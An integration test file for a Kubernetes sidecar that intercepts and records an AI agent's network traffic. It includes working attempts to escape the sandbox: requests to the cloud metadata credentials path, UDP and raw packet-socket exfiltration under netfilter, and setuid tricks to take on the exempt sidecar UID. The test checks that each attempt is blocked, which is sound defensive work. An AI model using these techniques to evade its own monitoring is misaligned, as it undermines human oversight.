"""Transparent mode in a real network namespace with exactly the init container's iptables rules.

The test builds a small pod network (needs root, ``ip`` from iproute2 and ``iptables``):

* netns **pod** - the pod's network namespace: ``lo`` and one end of a veth pair (10.203.0.1);
* netns **up** - "the internet": the other end (10.203.0.2) and an HTTPS upstream on port 443
  named ``tickets.chaperone.test`` (``/etc/netns/<pod>/hosts``, which ``ip netns exec``
  mounts over ``/etc/hosts``, resolves the name inside the pod);
* the apiserver and the S3 server stay in the root namespace on loopback; a forwarder listening
  on the same loopback ports *inside* the pod namespace stands in for the cluster network.

Then, as the kubelet would: the ``chaperone-init`` container's command (``/bin/sh -c SCRIPT``
from the operator's ``inject()``, i.e. ``iptables_rules(settings)``) runs in the pod namespace,
and the ``chaperone-sidecar`` container runs there as UID 1337 (``setpriv``; no capabilities,
no new privileges) with ``--mode transparent``. Shown:

* an agent process under another UID, which ignores proxy variables (``curl --noproxy '*'``
  with a bogus ``HTTPS_PROXY``; a raw Python TLS socket), reaching ``tickets.chaperone.test:443``
  is captured: it is answered with a certificate of the interception CA, gets the sidecar's
  credentials injected, is refused by policy where the policy says so, and is recorded;
* the same agent trusting only the upstream's real CA fails TLS - it is never let through
  directly;
* a process under the sidecar's own UID goes out directly (real certificate, no injected
  credentials, absent from the recording);
* nothing else gets out (issue 11 item 9): every other TCP connection of the agent - another
  port of the connection's host, any other host and port, the cloud metadata address, the
  same over IPv6, a protocol that is not HTTP - reaches the sidecar instead of its listener
  (each listener, a :class:`Trap`, counts the connections it accepts: none), is refused and
  recorded; a declared non-443 port (``tickets.chaperone.test:8443``) is intercepted over TLS
  like 443; UDP leaves only to the pod's resolver (``/etc/netns/<pod>/resolv.conf``), TCP 53
  to it stays direct.

The pod namespace has a default route (IPv4 and IPv6) to the other namespace, which also holds
``198.51.100.7`` and ``169.254.169.254``, so without the rules every one of those connections
would succeed.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import threading
import uuid
from pathlib import Path

import boto3
import pytest

from chaperone_operator.injection.inject import inject
from chaperone_operator.injection.iptables import iptables_rules, iptables_script
from chaperone_operator.injection.settings import InjectionSettings

from .pod import (
    HTTPSUpstream,
    InjectedPod,
    base_env,
    connection,
    policy,
    rmtree,
    sessions_cli,
    setup_namespace,
    wait_for,
)

SIDECAR_UID = 1337  # the injection default (InjectionSettings.sidecar_uid)
AGENT_UID = 4242
POD_IP, UP_IP = "10.203.0.1", "10.203.0.2"
POD_IP6, UP_IP6 = "fd00:203::1", "fd00:203::2"
OTHER_IP, METADATA_IP = "198.51.100.7", "169.254.169.254"  # held by the "up" namespace
UPSTREAM_NAME = "tickets.chaperone.test"
TOKEN = "transparent-token-3c9d"
MANIFEST_KEY = "transparent-manifest-hmac-key-0123456789"

_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000


def in_netns(name: str, fn):
    """Run ``fn`` on a thread that joined network namespace ``name``; sockets it creates
    belong to that namespace for their whole life, whichever thread uses them later."""
    result: dict = {}

    def run() -> None:
        fd = os.open(f"/run/netns/{name}", os.O_RDONLY)
        try:
            if _libc.setns(fd, CLONE_NEWNET) != 0:
                err = ctypes.get_errno()
                raise OSError(err, f"setns({name}): {os.strerror(err)}")
            result["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - re-raised on the caller's thread
            result["error"] = exc
        finally:
            os.close(fd)

    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if "error" in result:
        raise result["error"]
    return result["value"]


class Forwarder:
    """Listens on 127.0.0.1:PORT inside a netns, connects to 127.0.0.1:PORT in the root netns."""

    def __init__(self, netns: str, port: int):
        self.port = port
        self.sock = in_netns(netns, lambda: socket.create_server(("127.0.0.1", port)))
        self.sock.settimeout(0.2)
        self.closed = False
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while not self.closed:
            try:
                client, _ = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            try:
                server = socket.create_connection(("127.0.0.1", self.port), timeout=10)
            except OSError:
                client.close()
                continue
            server.settimeout(None)
            client.settimeout(None)
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(src: socket.socket, dst: socket.socket) -> None:
        try:
            while data := src.recv(65536):
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def close(self) -> None:
        self.closed = True
        self.sock.close()


def sh(*argv: str, check: bool = True, env=None, timeout: float = 60) -> subprocess.CompletedProcess:
    out = subprocess.run(list(argv), capture_output=True, text=True, env=env, timeout=timeout)
    if check and out.returncode != 0:
        raise AssertionError(f"{' '.join(argv)} failed ({out.returncode}): {out.stderr}{out.stdout}")
    return out


def as_user(netns: str, uid: int) -> list[str]:
    """argv prefix: inside the pod netns, as ``uid`` with no capabilities or new privileges."""
    return ["ip", "netns", "exec", netns, "setpriv", f"--reuid={uid}", f"--regid={uid}",
            "--clear-groups", "--no-new-privs", "--"]


# What containerd and Docker grant a container by default (runAsUser unset: root).
RUNTIME_DEFAULT_CAPS = ("chown", "dac_override", "fsetid", "fowner", "mknod", "net_raw", "setgid",
                        "setuid", "setfcap", "setpcap", "net_bind_service", "sys_chroot", "kill",
                        "audit_write")


def as_container(netns: str, security_context: dict | None) -> list[str]:
    """argv prefix: inside the pod netns, a process as a container runtime starts one with this
    ``securityContext``: ``runAsUser`` (default root), the runtime's default capabilities minus
    ``drop`` plus ``add``, and no_new_privs when ``allowPrivilegeEscalation`` is false."""
    sc = security_context or {}
    caps = sc.get("capabilities") or {}
    drop = {str(c).lower().removeprefix("cap_") for c in caps.get("drop") or []}
    kept = [] if "all" in drop else [c for c in RUNTIME_DEFAULT_CAPS if c not in drop]
    kept += [str(c).lower().removeprefix("cap_") for c in caps.get("add") or []]
    uid = sc.get("runAsUser", 0)
    argv = ["ip", "netns", "exec", netns, "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
            "--bounding-set=" + ",".join(["-all"] + [f"+{c}" for c in kept])]
    if sc.get("allowPrivilegeEscalation") is False:
        argv.append("--no-new-privs")
    return argv + ["--"]


@pytest.fixture
def pod_network():
    """Two network namespaces joined by a veth pair; removed again afterwards."""
    if os.geteuid() != 0:
        pytest.fail("transparent-mode tests need root (ip netns, iptables)", pytrace=False)
    for tool in ("ip", "iptables", "ip6tables", "setpriv", "curl"):
        if shutil.which(tool) is None:
            pytest.fail(f"{tool} is missing (Debian: iproute2, iptables, util-linux, curl)", pytrace=False)
    tag = uuid.uuid4().hex[:6]
    pod_ns, up_ns = f"chp-pod-{tag}", f"chp-up-{tag}"
    veth_pod, veth_up = f"chp{tag}a", f"chp{tag}b"
    etc = Path("/etc/netns") / pod_ns
    created_etc_netns = not Path("/etc/netns").exists()
    try:
        sh("ip", "netns", "add", pod_ns)
        sh("ip", "netns", "add", up_ns)
        sh("ip", "link", "add", veth_pod, "type", "veth", "peer", "name", veth_up)
        sh("ip", "link", "set", veth_pod, "netns", pod_ns)
        sh("ip", "link", "set", veth_up, "netns", up_ns)
        for ns, dev, ip, ip6 in ((pod_ns, veth_pod, POD_IP, POD_IP6), (up_ns, veth_up, UP_IP, UP_IP6)):
            sh("ip", "-n", ns, "addr", "add", f"{ip}/30", "dev", dev)
            sh("ip", "-n", ns, "addr", "add", f"{ip6}/64", "dev", dev, "nodad")
            sh("ip", "-n", ns, "link", "set", "lo", "up")
            sh("ip", "-n", ns, "link", "set", dev, "up")
        # "The internet": every address is routed to the other namespace, which also holds an
        # arbitrary public address and the cloud metadata address.
        sh("ip", "-n", pod_ns, "route", "add", "default", "via", UP_IP)
        sh("ip", "-n", pod_ns, "-6", "route", "add", "default", "via", UP_IP6)
        for extra in (OTHER_IP, METADATA_IP):
            sh("ip", "-n", up_ns, "addr", "add", f"{extra}/32", "dev", "lo")
        etc.mkdir(parents=True, exist_ok=True)
        (etc / "hosts").write_text(f"127.0.0.1 localhost\n::1 localhost\n{UP_IP} {UPSTREAM_NAME}\n")
        # The pod's resolver (the kubelet writes resolv.conf from dnsPolicy): the "up" side.
        (etc / "resolv.conf").write_text(f"nameserver {UP_IP}\noptions ndots:5\n")
        yield pod_ns, up_ns
    finally:
        for ns in (pod_ns, up_ns):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        rmtree(etc)
        if created_etc_netns:
            try:
                Path("/etc/netns").rmdir()
            except OSError:
                pass


class Trap:
    """A listener in the "up" namespace that only counts what reaches it (TCP: accepted
    connections; UDP: datagrams). Whatever the agent tried, a non-zero count means it got
    past the sidecar."""

    def __init__(self, netns: str, host: str, port: int, *, udp: bool = False):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        kind = socket.SOCK_DGRAM if udp else socket.SOCK_STREAM

        def bind() -> socket.socket:
            sock = socket.socket(family, kind)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            sock.bind((host, port))
            if not udp:
                sock.listen(16)
            return sock

        self.sock = in_netns(netns, bind)
        self.sock.settimeout(0.2)
        self.udp = udp
        self.hits: list[object] = []
        self.closed = False
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while not self.closed:
            try:
                if self.udp:
                    self.hits.append(self.sock.recvfrom(65536))
                else:
                    conn, peer = self.sock.accept()
                    self.hits.append(peer)
                    conn.close()
            except (socket.timeout, OSError):
                continue

    def close(self) -> None:
        self.closed = True
        self.sock.close()


RAW_CLIENT = textwrap.dedent("""
    # An agent that knows nothing about proxies: a TCP connection and TLS, by hand.
    import json, socket, ssl, sys
    host, path, cafile = sys.argv[1:4]
    ctx = ssl.create_default_context(cafile=cafile)
    with socket.create_connection((host, 443), timeout=20) as raw:
        with ctx.wrap_socket(raw, server_hostname=host) as tls:
            issuer = dict(x[0] for x in tls.getpeercert()["issuer"])
            tls.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
            data = b""
            while chunk := tls.recv(65536):
                data += chunk
    head, _, body = data.partition(b"\\r\\n\\r\\n")
    print(json.dumps({"status": int(head.split()[1]), "issuer": issuer.get("commonName"),
                      "body": json.loads(body)}))
""")


NOT_HTTP_CLIENT = textwrap.dedent("""
    # An agent speaking something that is not HTTP (an SSH banner) to an arbitrary port.
    import socket, sys
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10) as sock:
        sock.sendall(b"SSH-2.0-OpenSSH_9.6 agent\\r\\n")
        data = b""
        try:
            while chunk := sock.recv(65536):
                data += chunk
        except OSError:
            pass
    print(data[:12].decode(errors="replace"))
""")

UDP_CLIENT = textwrap.dedent("""
    # One datagram; prints "sent" or the error the kernel gave the sender.
    import socket, sys
    host, port = sys.argv[1], int(sys.argv[2])
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        try:
            sock.sendto(b"exfiltrate", (host, port))
            print("sent")
        except OSError as exc:
            print(f"error {exc.errno}")
""")

PACKET_CLIENT = textwrap.dedent("""
    # Below netfilter: an Ethernet frame carrying IPv4/UDP, written by hand to a packet socket
    # (CAP_NET_RAW, which a root container has by default). Prints "sent" or the error.
    import socket, struct, sys
    dev, dst_mac, src_ip, dst_ip, port = sys.argv[1:6]
    payload = b"exfiltrate below netfilter"
    udp = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    total = sum(struct.unpack("!10H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    header = header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:]
    try:
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    except OSError as exc:
        print(f"error {exc.errno}")
        sys.exit(0)
    sock.bind((dev, 0))
    src_mac = open(f"/sys/class/net/{dev}/address").read().strip()
    frame = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\\x08\\x00"
    sock.send(frame + header + udp)
    print("sent")
""")

TCP_CONNECT = textwrap.dedent("""
    import socket, sys
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10):
        print("connected")
""")


def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
        pod_network, control_plane, crds_installed, s3_server):
    pod_ns, up_ns = pod_network
    root = Path(os.environ.get("TMPDIR", "/tmp")) / f"chaperone-transparent-{uuid.uuid4().hex[:8]}"
    root.mkdir(mode=0o755)
    forwarders: list[Forwarder] = []
    traps: dict[str, Trap] = {}
    upstream = upstream_8443 = sidecar = None
    try:
        # ---- "the internet": HTTPS upstreams on 443 and 8443 in the other namespace
        listener = in_netns(up_ns, lambda: socket.create_server((UP_IP, 443)))
        upstream = HTTPSUpstream(root / "upstream", sock=listener, names=(UPSTREAM_NAME,), ips=(UP_IP,))
        assert upstream.port == 443
        listener = in_netns(up_ns, lambda: socket.create_server((UP_IP, 8443)))
        upstream_8443 = HTTPSUpstream(root / "upstream-8443", sock=listener, names=(UPSTREAM_NAME,),
                                      ips=(UP_IP,))
        # ...and listeners no agent connection may ever reach
        for key, host, port, udp in (("tickets:9443", UP_IP, 9443, False), ("tickets:8080", UP_IP, 8080, False),
                                     ("tickets:2222", UP_IP, 2222, False), ("other:7777", OTHER_IP, 7777, False),
                                     ("metadata:80", METADATA_IP, 80, False), ("v6:9000", UP_IP6, 9000, False),
                                     ("v6:443", UP_IP6, 443, False), ("dns:53/tcp", UP_IP, 53, False),
                                     ("dns:53/udp", UP_IP, 53, True), ("udp:5353", UP_IP, 5353, True),
                                     ("udp6:5353", UP_IP6, 5353, True)):
            traps[key] = Trap(up_ns, host, port, udp=udp)

        # ---- the cluster: connection, policy, recording bucket
        s3 = boto3.client("s3", **s3_server.client_kwargs())
        bucket = f"transparent-{uuid.uuid4().hex[:8]}"
        s3.create_bucket(Bucket=bucket)
        ns = f"transp-{uuid.uuid4().hex[:8]}"
        # Ports named: 443 and 8443 are declared, every other port of the host is not.
        conns = [connection("tickets", {"type": "http", "hosts": [f"{UPSTREAM_NAME}:443", f"{UPSTREAM_NAME}:8443"],
                                        "credentials": {"source": "secret", "secretRef": {"name": "tok"}},
                                        "upstreamCA": {"kind": "ConfigMap", "name": "up-ca", "key": "ca.crt"}})]
        setup_namespace(control_plane, ns, conns + [policy("tickets", {"connections": ["tickets"], "rules": [
            {"name": "reads", "match": {"methods": ["GET"]}, "allow": {}},
            {"name": "no-deletes", "match": {"methods": ["DELETE"]},
             "block": {"message": "deleting tickets is not for agents"}}]})])
        settings = InjectionSettings(s3_bucket=bucket, s3_endpoint=s3_server.endpoint_url,
                                     s3_region=s3_server.region, sidecar_secret="chaperone-sidecar")
        assert settings.sidecar_uid == SIDECAR_UID and settings.proxy_port == 15001
        pod = InjectedPod(control_plane, ns, root / "pod", connections=conns, settings=settings,
                          mode="transparent",
                          secrets={"tok": {"token": TOKEN},
                                   "chaperone-sidecar": {"AWS_ACCESS_KEY_ID": s3_server.access_key,
                                                         "AWS_SECRET_ACCESS_KEY": s3_server.secret_key,
                                                         "MANIFEST_KEY": MANIFEST_KEY}},
                          configmaps={"up-ca": {"ca.crt": upstream.ca_file.read_bytes()
                                                    + upstream_8443.ca_file.read_bytes()}})
        pod.chown(settings.sidecar_uid, settings.sidecar_gid)  # fsGroup, in effect
        upstream.ca_file.chmod(0o644)
        for path in (root, root / "upstream", root / "upstream-8443"):
            path.chmod(0o755)

        # ---- the init container: exactly its command, in the pod's namespace
        assert pod.init is not None and pod.init["command"] == ["/bin/sh", "-c"]
        script = pod.init["args"][0]
        assert script == iptables_script(settings)
        sh("ip", "netns", "exec", pod_ns, "/bin/sh", "-c", script)
        # It installed exactly iptables_rules() for the pod's resolver, in both families.
        expected = iptables_rules(settings, [UP_IP])
        for binary in ("iptables", "ip6tables"):
            for table in ("nat", "filter"):
                listed = sh("ip", "netns", "exec", pod_ns, binary, "-t", table, "-S", "OUTPUT").stdout
                installed = [line for line in listed.splitlines() if line.startswith("-A OUTPUT")]
                assert len(installed) == sum(1 for r in expected if r[0] == binary and r[3] == table), listed
        rules = sh("ip", "netns", "exec", pod_ns, "iptables", "-t", "nat", "-S", "OUTPUT").stdout
        assert f"--uid-owner {SIDECAR_UID}" in rules and "--to-ports 15001" in rules and "--dport 443" not in rules

        # ---- the cluster network, seen from the pod: apiserver and S3 on the same loopback ports
        api_port = int(control_plane.url.rsplit(":", 1)[1])
        s3_port = int(s3_server.endpoint_url.rsplit(":", 1)[1])
        forwarders += [Forwarder(pod_ns, api_port), Forwarder(pod_ns, s3_port)]

        # ---- the sidecar container: UID 1337, transparent mode
        assert pod.sidecar["args"][:3] == ["sidecar", "--mode", "transparent"]
        assert pod.sidecar["securityContext"]["runAsUser"] == SIDECAR_UID
        sidecar = pod
        pod.start(wrap=as_user(pod_ns, SIDECAR_UID))

        def ready() -> bool:
            def probe() -> bool:
                try:
                    with socket.create_connection(("127.0.0.1", settings.health_port), timeout=1) as s:
                        s.sendall(b"GET /ready HTTP/1.0\r\n\r\n")
                        return s.recv(64).split(b" ")[1] == b"200"
                except (OSError, IndexError):
                    return False
            return in_netns(pod_ns, probe)

        pod.wait_ready(probe=ready)
        status = Path(f"/proc/{pod.proc.pid}/status").read_text()
        assert f"Uid:\t{SIDECAR_UID}\t{SIDECAR_UID}" in status and "CapEff:\t0000000000000000" in status

        agent_env = pod.agent_env({"HTTPS_PROXY": "http://127.0.0.1:9", "https_proxy": "http://127.0.0.1:9"})
        assert agent_env["CURL_CA_BUNDLE"] == str(pod.trust_file)
        url = f"https://{UPSTREAM_NAME}"

        def agent_curl(*args: str, uid: int = AGENT_UID, env=agent_env) -> tuple[int, str]:
            out = sh(*as_user(pod_ns, uid), "curl", "-sS", "--noproxy", "*", "-w", "\n%{http_code}",
                     *args, env=env, check=False)
            assert out.returncode == 0, out.stderr
            body, _, code = out.stdout.rpartition("\n")
            return int(code), body

        # 1. another UID, ignoring proxies, is captured: interception CA, injected token, recorded
        before = len(upstream.seen)
        code, body = agent_curl(f"{url}/tickets/1")
        assert code == 200 and json.loads(body)["path"] == "/tickets/1", body
        seen = upstream.seen[before:]
        assert len(seen) == 1 and seen[0]["headers"]["authorization"] == f"Bearer {TOKEN}"
        assert seen[0]["peer"] == POD_IP
        code, body = agent_curl("-X", "DELETE", f"{url}/tickets/1")
        assert code == 403 and json.loads(body)["error"] == "chaperone_blocked", body
        assert len(upstream.seen) == before + 1
        raw = sh(*as_user(pod_ns, AGENT_UID), sys.executable, "-c", RAW_CLIENT, UPSTREAM_NAME,
                 "/raw-socket", str(pod.trust_file), env=agent_env, check=False)
        assert raw.returncode == 0, raw.stderr
        got = json.loads(raw.stdout)
        assert got["status"] == 200 and got["body"]["path"] == "/raw-socket"
        assert got["issuer"].startswith("Chaperone interception CA")
        assert upstream.seen[-1]["headers"]["authorization"] == f"Bearer {TOKEN}"

        # 2. the agent cannot get around it: trusting only the real CA fails (it is intercepted)
        out = sh(*as_user(pod_ns, AGENT_UID), "curl", "-sS", "--noproxy", "*", "--cacert",
                 str(upstream.ca_file), f"{url}/direct-attempt", env=agent_env, check=False)
        assert out.returncode == 60, (out.returncode, out.stderr)  # CURLE_PEER_FAILED_VERIFICATION
        assert not upstream.requests(path_prefix="/direct-attempt")

        # 3. the sidecar's own UID goes out directly: real certificate, nothing injected
        code, body = agent_curl("--cacert", str(upstream.ca_file), f"{url}/from-sidecar-uid",
                                uid=SIDECAR_UID, env=base_env())
        assert code == 200 and json.loads(body)["path"] == "/from-sidecar-uid", body
        direct = upstream.requests(path_prefix="/from-sidecar-uid")
        assert len(direct) == 1 and "authorization" not in direct[0]["headers"]
        out = sh(*as_user(pod_ns, SIDECAR_UID), "curl", "-sS", "--cacert", str(pod.trust_file),
                 f"{url}/not-intercepted", check=False)
        assert out.returncode == 60, out.stderr  # the interception CA is not what answers it

        # 4. nothing else gets out (issue 11 item 9). Before: only 80/443 were redirected.
        def agent_py(script: str, *args: str, uid: int = AGENT_UID) -> subprocess.CompletedProcess:
            return sh(*as_user(pod_ns, uid), sys.executable, "-c", script, *args, env=agent_env, check=False)

        # (d) a declared non-443 port: intercepted over TLS like 443, credentials injected
        code, body = agent_curl(f"{url}:8443/tickets/8443")
        assert code == 200 and json.loads(body)["path"] == "/tickets/8443", body
        assert [r["headers"]["authorization"] for r in upstream_8443.seen] == [f"Bearer {TOKEN}"]
        # (a) an undeclared port of the declared host: TLS and plain HTTP, refused by the sidecar
        code, body = agent_curl(f"{url}:9443/undeclared-port")
        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
        code, body = agent_curl(f"http://{UPSTREAM_NAME}:8080/undeclared-plain")
        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
        # ... and something that is not HTTP at all: closed, never connected through
        out = agent_py(NOT_HTTP_CLIENT, UP_IP, "2222")
        assert out.returncode == 0 and "SSH" not in out.stdout, out.stdout + out.stderr
        # (b) any other host on any port, and the cloud metadata address
        code, body = agent_curl(f"http://{OTHER_IP}:7777/exfiltrate")
        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
        code, body = agent_curl(f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/")
        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
        # (c) IPv6: an undeclared address, and the declared name reached over IPv6
        code, body = agent_curl("-g", f"http://[{UP_IP6}]:9000/over-ipv6")
        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
        code, body = agent_curl("--resolve", f"{UPSTREAM_NAME}:443:[{UP_IP6}]", f"{url}/tickets/v6")
        assert code == 200 and json.loads(body)["path"] == "/tickets/v6", body  # via the sidecar, over v4
        # UDP: only DNS to the pod's resolver leaves; TCP 53 to it stays direct
        assert agent_py(UDP_CLIENT, UP_IP, "5353").stdout.strip().startswith("error"), "UDP got out"
        assert agent_py(UDP_CLIENT, UP_IP6, "5353").stdout.strip().startswith("error"), "UDP6 got out"
        assert agent_py(UDP_CLIENT, UP_IP, "53").stdout.strip() == "sent"
        assert agent_py(TCP_CONNECT, UP_IP, "53").stdout.strip() == "connected"
        wait_for(lambda: traps["dns:53/udp"].hits and traps["dns:53/tcp"].hits, 10, "DNS to the resolver")
        # the sidecar UID's own UDP is not affected (the rules are not simply a broken network)
        assert agent_py(UDP_CLIENT, UP_IP, "5353", uid=SIDECAR_UID).stdout.strip() == "sent"
        wait_for(lambda: traps["udp:5353"].hits, 10, "the sidecar UID's datagram")
        assert len(traps["udp:5353"].hits) == 1 and not traps["udp6:5353"].hits
        reached = {key: len(t.hits) for key, t in traps.items() if "dns" not in key and "udp" not in key}
        assert reached == {key: 0 for key in reached}, reached

        # 5. ... nor by becoming the sidecar UID, the one UID the rules exempt. A root agent (no
        # runAsUser: the image's root) holds CAP_SETUID by default and could setuid() to it, or
        # exec a setuid binary it chowned to it; the webhook's securityContext closes both.
        escape = ["setpriv", f"--reuid={SIDECAR_UID}", f"--regid={SIDECAR_UID}", "--clear-groups",
                  "curl", "-sS", "--noproxy", "*", "--cacert", str(upstream.ca_file)]
        suid = root / "suid-id"
        become = f"cp /usr/bin/id {suid} && chown {SIDECAR_UID} {suid} && chmod u+s {suid} && {suid} -u"
        unconfined = as_container(pod_ns, {})  # control: what the webhook's settings prevent
        out = sh(*unconfined, *escape, f"{url}/escape-unconfined", env=agent_env, check=False)
        assert out.returncode == 0 and upstream.requests(path_prefix="/escape-unconfined"), out.stderr
        assert sh(*unconfined, "sh", "-c", become, check=False).stdout.strip() == str(SIDECAR_UID)
        confined = as_container(pod_ns, pod.agent["securityContext"])  # as injected
        assert "--no-new-privs" in confined and "+setuid" not in next(
            arg for arg in confined if arg.startswith("--bounding-set="))
        out = sh(*confined, *escape, f"{url}/escape-confined", env=agent_env, check=False)
        assert out.returncode != 0 and "Operation not permitted" in out.stderr, out.stderr
        assert not upstream.requests(path_prefix="/escape-confined")
        assert sh(*confined, "sh", "-c", become, check=False).stdout.strip() == "0"
        # ... nor below netfilter: a packet socket (CAP_NET_RAW) would carry any protocol out
        veth_pod = sh("ip", "-n", pod_ns, "-o", "link", "show", "type", "veth").stdout.split(":")[1].strip().split("@")[0]
        veth_up = sh("ip", "-n", up_ns, "-o", "link", "show", "type", "veth").stdout.split(":")[1].strip().split("@")[0]
        up_mac = sh("ip", "netns", "exec", up_ns, "cat", f"/sys/class/net/{veth_up}/address").stdout.strip()
        frame = [sys.executable, "-c", PACKET_CLIENT, veth_pod, up_mac, POD_IP, UP_IP, "6000"]
        packet_trap = traps["raw:6000"] = Trap(up_ns, UP_IP, 6000, udp=True)
        assert sh(*unconfined, *frame, check=False).stdout.strip() == "sent"  # control
        wait_for(lambda: packet_trap.hits, 10, "the control frame")
        assert packet_trap.hits[0][0] == b"exfiltrate below netfilter"
        out = sh(*confined, *frame, check=False)
        assert out.stdout.strip() == "error 1", out.stdout + out.stderr  # EPERM
        body, code = sh(*confined, "curl", "-sS", "--noproxy", "*", "-w", "\n%{http_code}",
                        f"{url}/as-root-agent", env=agent_env).stdout.rsplit("\n", 1)
        assert code == "200" and json.loads(body)["path"] == "/as-root-agent"  # captured, as UID 0

        # ---- the recording: shipped at SIGTERM, complete, verifiable
        code = pod.stop()
        assert code == 0, pod.logs()
        s3_env = {"AWS_ACCESS_KEY_ID": s3_server.access_key, "AWS_SECRET_ACCESS_KEY": s3_server.secret_key,
                  "AWS_DEFAULT_REGION": s3_server.region}
        source = ["--s3-bucket", bucket, "--s3-endpoint", s3_server.endpoint_url]
        listed = wait_for(lambda: json.loads(sessions_cli("list", *source, "--json", env=s3_env).stdout or "[]"),
                          30, "the session in S3")
        assert len(listed) == 1 and listed[0]["status"] == "closed", listed
        session = listed[0]["session"]
        out = sessions_cli("replay", session, *source, env=s3_env)
        assert out.returncode == 0, out.stderr
        assert "/tickets/1" in out.stdout and "/raw-socket" in out.stdout and "block" in out.stdout
        assert "/from-sidecar-uid" not in out.stdout and "/not-intercepted" not in out.stdout
        assert "/direct-attempt" not in out.stdout
        assert "/tickets/8443" in out.stdout and "/tickets/v6" in out.stdout
        rows = json.loads(sessions_cli("replay", session, *source, "--json", env=s3_env).stdout)["timeline"]
        refused = {row["what"].split(" ", 1)[-1]: row["status"] for row in rows if row["status"] == 403}
        for target in (f"https://{UPSTREAM_NAME}:9443/undeclared-port", f"http://{UPSTREAM_NAME}:8080/undeclared-plain",
                       f"http://{OTHER_IP}:7777/exfiltrate",
                       # mitmproxy's pretty_url leaves IPv6 literals unbracketed
                       f"http://{UP_IP6}:9000/over-ipv6"):
            assert any(what.endswith(target) for what in refused), (target, list(refused))
        assert any(what.endswith(f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/")
                   for what in refused), refused
        closed = [row["what"] for row in rows if row["what"].startswith("error connection")]
        assert any(f"{UP_IP}:2222 closed; nothing was forwarded" in what for what in closed), closed
        key = root / "manifest.key"
        key.write_text(MANIFEST_KEY)
        out = sessions_cli("verify", session, *source, "--key", str(key), env=s3_env)
        assert out.returncode == 0 and "signature valid" in out.stdout, out.stdout + out.stderr
    finally:
        if sidecar is not None:
            sidecar.stop()
        for fwd in forwarders:
            fwd.close()
        for trap in traps.values():
            trap.close()
        for server in (upstream, upstream_8443):
            if server is not None:
                server.close()
        rmtree(root)


def test_without_ipv6_rules_a_pod_with_ipv6_does_not_start(pod_network):
    """CHAPERONE_REDIRECT_IPV6=false installs no ip6tables rules, so the injected script must
    refuse a pod that has IPv6 beyond loopback (an unredirected IPv6 path around the sidecar),
    and start one that has none."""
    pod_ns, _ = pod_network
    settings = InjectionSettings(redirect_ipv6=False)
    pod = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": "v4-only", "labels": {"chaperone.dev/inject": "true"},
                        "annotations": {"chaperone.dev/mode": "transparent"}},
           "spec": {"containers": [{"name": "agent", "image": "example.com/agent:1"}]}}
    result = inject(pod, settings, [])
    script = next(ct for ct in result.pod["spec"]["initContainers"]
                  if ct["name"] == "chaperone-init")["args"][0]
    out = sh("ip", "netns", "exec", pod_ns, "/bin/sh", "-c", script, check=False)
    assert out.returncode == 1 and "IPv6 address on chp" in out.stderr, out.stderr
    # The same pod without IPv6 on its interface starts, with IPv4 rules only.
    dev = sh("ip", "-n", pod_ns, "-o", "link", "show", "type", "veth").stdout.split(":")[1].strip().split("@")[0]
    sh("ip", "-n", pod_ns, "-6", "addr", "flush", "dev", dev)
    sh("ip", "netns", "exec", pod_ns, "sysctl", "-qw", f"net.ipv6.conf.{dev}.disable_ipv6=1")
    assert "REDIRECT" not in sh("ip", "netns", "exec", pod_ns, "iptables", "-t", "nat", "-S").stdout
    out = sh("ip", "netns", "exec", pod_ns, "/bin/sh", "-c", script, check=False)
    assert out.returncode == 0, out.stderr
    listed = sh("ip", "netns", "exec", pod_ns, "iptables", "-t", "nat", "-S", "OUTPUT").stdout
    assert "REDIRECT --to-ports 15001" in listed
